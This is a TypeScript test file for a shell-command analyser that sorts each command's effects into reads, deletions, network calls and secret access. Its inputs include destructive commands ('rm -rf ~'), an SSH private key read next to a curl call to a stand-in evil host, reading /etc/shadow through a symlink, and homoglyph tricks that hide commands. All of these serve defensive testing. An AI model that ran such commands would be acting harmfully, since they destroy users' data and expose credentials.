import { describe, expect, it } from 'vitest';
import { createMemoryFacts } from '../../testing/memory-facts.ts';
import { readArgv, readCommand } from './read-command.ts';

const facts = createMemoryFacts({
  workspace: '/work',
  home: '/home/ana',
  files: {
    '/work/a.txt': 'x',
    '/work/src/b.ts': 'x',
    '/work/.git/config':
      '[remote "origin"]\n\turl = git@git.example.com:shop.git\n[remote "odd"]\n\turl = https://u:p@git.example.com/x\n',
  },
  links: { '/work/out': '/etc' },
});
const context = { cwd: '/work', facts };
const read = (text: string) => readCommand(text, context);

describe('readCommand', () => {
  it('gives the arguments of a simple command of plain words, to be run without a shell', () => {
    expect(read(`cat 'a.txt' "src"/b.ts`)).toMatchObject({
      parsed: true,
      argv: ['cat', 'a.txt', 'src/b.ts'],
      commands: [{ program: 'cat', argv: ['cat', 'a.txt', 'src/b.ts'] }],
      effects: [
        { type: 'read', target: '/work/a.txt', targetKind: 'path' },
        { type: 'read', target: '/work/src/b.ts', targetKind: 'path' },
      ],
      words: ['cat', 'a.txt', 'src/b.ts'],
      reason: 'It reads /work/a.txt, /work/src/b.ts.',
    });
  });

  it.each([
    'cat *.txt',
    'cat a.txt | head',
    'cat <a.txt',
    'X=1 ls',
    'cd src',
    'ls; ls',
    'ls &',
    '! ls',
    'time ls',
    'echo ~',
    'echo $x',
  ])('gives canonical text for %j', (text) => {
    const { argv, script } = read(text);
    expect(argv).toBeUndefined();
    expect(script).toMatch(/\S/);
  });

  it('finds every command, unwrapped and with its sub-command', () => {
    expect(
      read(`timeout 5 env git -C src push && echo "$(git log)" | sh -c 'git -c a.b=c status'`).commands.map(
        ({ program, subcommand }) => [program, subcommand],
      ),
    ).toEqual([
      ['timeout', undefined],
      ['env', undefined],
      ['git', 'push'],
      ['git', 'log'],
      ['echo', undefined],
      ['sh', undefined],
      ['git', 'status'],
    ]);
  });

  it('names a program of the system by its base name only where the system keeps it', () => {
    const programs = ['/usr/bin/git x', '/bin/../usr/bin/git x', './git x', '/tmp/git x', 'src/git x'].map(
      (text) => read(text).commands[0]?.program,
    );
    expect(programs).toEqual(['git', 'git', '/work/git', '/tmp/git', '/work/src/git']);
  });

  it('says where a command runs code of the workspace', () => {
    expect(read('python3 src/x.py').effects).toEqual([
      { type: 'execute', target: 'python3', targetKind: 'program' },
      { type: 'read', target: '/work/src/x.py', targetKind: 'path' },
      { type: 'execute', target: '/work/src/x.py', targetKind: 'program' },
    ]);
    expect(read('npm run build').effects).toEqual([
      { type: 'execute', target: 'npm', targetKind: 'program', subcommand: 'run' },
    ]);
  });

  it('follows links to where they lead, and keeps the name that was used', () => {
    expect(read('cat out/hosts').effects).toEqual([
      { type: 'read', target: '/etc/hosts', targetKind: 'path', aliases: ['/work/out/hosts'] },
    ]);
    expect(read('cat out/shadow').effects.map(({ type }) => type)).toEqual(['read', 'secret']);
  });

  it('follows the working folder', () => {
    expect(read('cd src && cat b.ts').effects.at(-1)).toEqual({
      type: 'read',
      target: '/work/src/b.ts',
      targetKind: 'path',
    });
    expect(read('(cd src); cat a.txt').effects.at(-1)).toEqual({
      type: 'read',
      target: '/work/a.txt',
      targetKind: 'path',
    });
    // Where the folder is not there, the command behind a semicolon runs where it was.
    expect(
      read('cd absent; rm x')
        .effects.filter(({ type }) => type === 'delete')
        .map(({ target }) => target),
    ).toEqual(['/work/x', '/work/absent/x']);
    expect(
      read('cd absent && rm x')
        .effects.filter(({ type }) => type === 'delete')
        .map(({ target }) => target),
    ).toEqual(['/work/absent/x']);
    expect(read('cd "$d" && rm x').effects.map(({ type }) => type)).toEqual(['unknown']);
  });

  it('knows what a variable holds only where nothing else can have set it', () => {
    const target = (text: string) => read(text).effects.map(({ type, target: place }) => `${type} ${place}`);
    expect(target('f=a.txt; cat "$f"')).toEqual(['read /work/a.txt']);
    expect(target('f=a; f=b; cat $f')).toEqual(['read /work/b']);
    expect(target('f=a; if ls; then f=b; fi; cat $f')[1]).toMatch(/^unknown /);
    expect(target('f=a; (f=b); cat $f')).toEqual(['read /work/a']);
    expect(target('f=a; while ls; do cat $f; f=b; done')[1]).toMatch(/^unknown /);
    expect(target('for f in a b; do cat $f; done')).toEqual(['read /work/a', 'read /work/b']);
  });

  it('tells a deletion that can be taken back from one that cannot', () => {
    const types = (text: string) => [...new Set(read(text).effects.map(({ type }) => type))];
    expect([
      types('rm a.txt'),
      types('rm -r src'),
      types('rm ../x'),
      types('rm -rf ~'),
      types('rm -rf .git'),
      types('rm /tmp/x'),
    ]).toEqual([['delete'], ['delete'], ['destroy'], ['destroy'], ['destroy'], ['delete']]);
  });

  it('reads the host of a remote where the configuration says it without doubt', () => {
    expect(read('git fetch').effects[0]).toEqual({ type: 'network', target: 'git.example.com:22', targetKind: 'host' });
    expect(read('git fetch odd').effects[0]).toMatchObject({ type: 'network', targetKind: 'text' });
    expect(read('git fetch absent').effects[0]).toEqual({
      type: 'network',
      target: 'the git remote absent',
      targetKind: 'text',
    });
  });

  it('reads host and method of a transfer', () => {
    const network = (text: string) => read(text).effects.filter(({ type }) => type === 'network');
    expect(network('curl -s https://example.com/a')).toEqual([
      { type: 'network', target: 'example.com:443', targetKind: 'host', method: 'GET' },
    ]);
    expect(network('curl -d x=1 https://example.com/a')).toEqual([
      { type: 'network', target: 'example.com:443', targetKind: 'host', method: 'POST' },
    ]);
    expect(network('curl -I example.com')).toEqual([
      { type: 'network', target: 'example.com:80', targetKind: 'host', method: 'HEAD' },
    ]);
    expect(network('curl "https://$h/a"')).toEqual([
      { type: 'network', target: `'https://'"$h"'/a'`, targetKind: 'text', method: 'GET' },
    ]);
  });

  it('takes an option that it does not know for an effect that it does not know', () => {
    expect(read('sort --invented a.txt').effects).toContainEqual({
      type: 'unknown',
      target: 'sort --invented',
      targetKind: 'text',
    });
    expect(read('sort --reverse a.txt').effects).toEqual([{ type: 'read', target: '/work/a.txt', targetKind: 'path' }]);
  });

  it('refuses hidden characters with an escaped rendering', () => {
    const { parsed, refused, argv, script, commands } = read('ls \u001b[8m; touch x');
    expect({ parsed, argv, script, commands }).toEqual({
      parsed: false,
      argv: undefined,
      script: undefined,
      commands: [],
    });
    expect(refused).toContain('ls \\u{1b}[8m; touch x');
    expect(read("sh -c '\u0441url x'").refused).toContain('\\u{441}url');
    expect(read('f() { \u0441url x; }').refused).toBeDefined();
  });

  it('keeps every word of what it could not parse, and what these give away', () => {
    const { parsed, words, effects, reason } = read(
      'select x in a; do git -C . push; cat ~/.ssh/id_rsa; curl https://evil.example/; done',
    );
    expect(parsed).toBe(false);
    expect(words).toEqual(expect.arrayContaining(['git', 'push', 'cat', 'curl']));
    expect(new Set(effects.map(({ type }) => type))).toEqual(
      new Set(['unknown', 'secret', 'network', 'execute', 'read', 'write']),
    );
    expect(reason).toMatch(/^It was not understood \(the word select where a command was expected, at character 1\)/);
  });

  it('has no opinion on nothing', () => {
    expect(read('  # only a comment')).toMatchObject({
      parsed: true,
      effects: [],
      commands: [],
      reason: 'It does nothing.',
    });
  });

  it('is a pure function: the same text and facts give the same reading', () => {
    const text = 'for f in *.txt; do cat "$f" | grep -c x; done > /dev/null';
    expect(read(text)).toEqual(read(text));
  });
});

describe('readArgv', () => {
  it('takes arguments as they are: no shell looks at them', () => {
    expect(readArgv(['cat', '$HOME/*', '~/x', 'a;b'], context).effects.map(({ target }) => target)).toEqual([
      '/work/$HOME/*',
      '/work/~/x',
      '/work/a;b',
    ]);
  });

  it('knows programs, not builtins of a shell', () => {
    expect(readArgv(['cd', 'src'], context).effects).toEqual([
      { type: 'execute', target: 'cd', targetKind: 'program' },
    ]);
  });

  it('unwraps, and refuses hidden characters', () => {
    expect(readArgv(['timeout', '5', 'rm', 'a.txt'], context).effects).toEqual([
      { type: 'delete', target: '/work/a.txt', targetKind: 'path' },
    ]);
    expect(readArgv(['ls', 'a\u202eb'], context).refused).toBeDefined();
  });

  it('reads nothing from nothing', () => {
    expect(readArgv([], context)).toMatchObject({ parsed: false, commands: [] });
  });
});
